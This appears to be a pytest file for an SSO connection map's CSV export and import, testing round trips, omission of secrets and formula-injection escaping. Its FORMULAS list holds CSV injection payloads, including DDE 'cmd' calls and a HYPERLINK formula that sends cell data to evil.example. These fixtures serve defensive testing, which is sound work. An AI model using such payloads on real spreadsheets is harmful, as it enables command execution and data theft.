"""Exporting the map as the connections CSV: what goes in is what comes out."""

from __future__ import annotations

import csv
import io

from cryptography.hazmat.primitives.asymmetric import rsa

from connection_map import (
    ConnectionMapDocument,
    Protocol,
    export_connections_csv,
    import_connections_csv,
)
from connection_map.csv_columns import OIDC_HEADER, SAML_HEADER
from tests.connection_map.csv_fixture import CLIENT_SECRET_SUFFIX, render


def imported(
    shared_key: rsa.RSAPrivateKey, sp_private_key: str
) -> tuple[str, ConnectionMapDocument, dict]:  # type: ignore[type-arg]
    text = render(shared_key, sp_private_key, drop_broken=True)
    result = import_connections_csv(ConnectionMapDocument(), text)
    return text, result.document, dict(result.secrets)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def normalised(table: list[dict[str, str]]) -> list[dict[str, str]]:
    return [{k: v.strip().replace(", ", ",") for k, v in row.items()} for row in table]


def test_export_then_import_gives_the_same_map(
    shared_key: rsa.RSAPrivateKey, sp_private_key: str
) -> None:
    original, document, secrets = imported(shared_key, sp_private_key)
    exported = export_connections_csv(document.connections, secrets=secrets)

    assert exported.rows == 26 and exported.missing_secrets == ()
    again = import_connections_csv(ConnectionMapDocument(), exported.text)
    assert again.document.connections == document.connections
    assert again.secrets == secrets
    # Cell for cell, the file that came in is the file that goes out (up to spacing).
    assert normalised(rows(exported.text)) == normalised(rows(original))


def test_without_the_secrets_their_cells_are_empty_and_listed(
    shared_key: rsa.RSAPrivateKey, sp_private_key: str
) -> None:
    _, document, _ = imported(shared_key, sp_private_key)
    exported = export_connections_csv(document.connections)
    assert "PRIVATE KEY" not in exported.text and CLIENT_SECRET_SUFFIX not in exported.text
    missing = set(exported.missing_secrets)
    assert ("massive", "requestSigningKey") in missing
    assert ("tyrell", "assertionEncryptionKey") in missing and ("hooli", "clientSecret") in missing
    assert len(missing) == 1 + 2 + 8, "one signing key, two encryption keys, eight client secrets"


def test_one_protocol_per_file(shared_key: rsa.RSAPrivateKey, sp_private_key: str) -> None:
    _, document, secrets = imported(shared_key, sp_private_key)
    saml = export_connections_csv(document.connections, protocol=Protocol.SAML, secrets=secrets)
    oidc = export_connections_csv(document.connections, protocol=Protocol.OIDC, secrets=secrets)
    assert saml.rows == 18 and oidc.rows == 8
    assert saml.text.splitlines()[0] == ",".join(SAML_HEADER)
    assert oidc.text.splitlines()[0] == ",".join(OIDC_HEADER)
    assert all(row["clientSecret"].endswith(CLIENT_SECRET_SUFFIX) for row in rows(oidc.text))


def test_a_hand_written_connection_exports_its_id_as_external_id() -> None:
    document = ConnectionMapDocument.model_validate(
        {
            "connections": [
                {"id": "acme", "protocol": "saml", "saml": {"idp_entity_id": "https://i"}}
            ]
        }
    )
    (row,) = rows(export_connections_csv(document.connections).text)
    assert row["externalId"] == "acme" and row["idpEntityId"] == "https://i"
    assert row["idpInitiatedEnabled"] == "true"


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "'plain quote",
]


def test_formula_cells_are_neutralised_and_read_back_as_they_were() -> None:
    document = ConnectionMapDocument.model_validate(
        {
            "connections": [
                {
                    "id": f"c{number}",
                    "protocol": "saml",
                    "name": value,
                    "organization": {"name": value},
                    "saml": {
                        "idp_entity_id": f"https://idp{number}.example",
                        "idp_metadata_url": f"https://idp{number}.example/metadata",
                    },
                }
                for number, value in enumerate(FORMULAS)
            ]
        }
    )

    exported = export_connections_csv(document.connections, protocol=Protocol.SAML)
    cells = rows(exported.text)

    # OWASP's rule: no cell starts with = + - @ (or tab, CR); a leading ' marks text.
    for row, value in zip(cells, FORMULAS, strict=True):
        assert row["name"] == row["organizationName"] == "'" + value
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in cells for cell in row.values()
    )
    # The importer reads the project's own export back as it was.
    again = import_connections_csv(ConnectionMapDocument(), exported.text)
    assert [(c.name, c.organization.name) for c in again.document.connections] == [
        (value, value) for value in FORMULAS
    ]


def test_a_hand_written_cell_keeps_a_quote_that_neutralises_nothing() -> None:
    text = (
        "name,idpEntityId,idpMetadataUrl,externalId\n"
        "'Brien's,https://idp.example,https://idp.example/md,c1\n"
        "'=SUM(1),https://idp2.example,https://idp2.example/md,c2\n"
    )

    connections = import_connections_csv(ConnectionMapDocument(), text).document.connections

    assert [c.name for c in connections] == ["'Brien's", "=SUM(1)"]
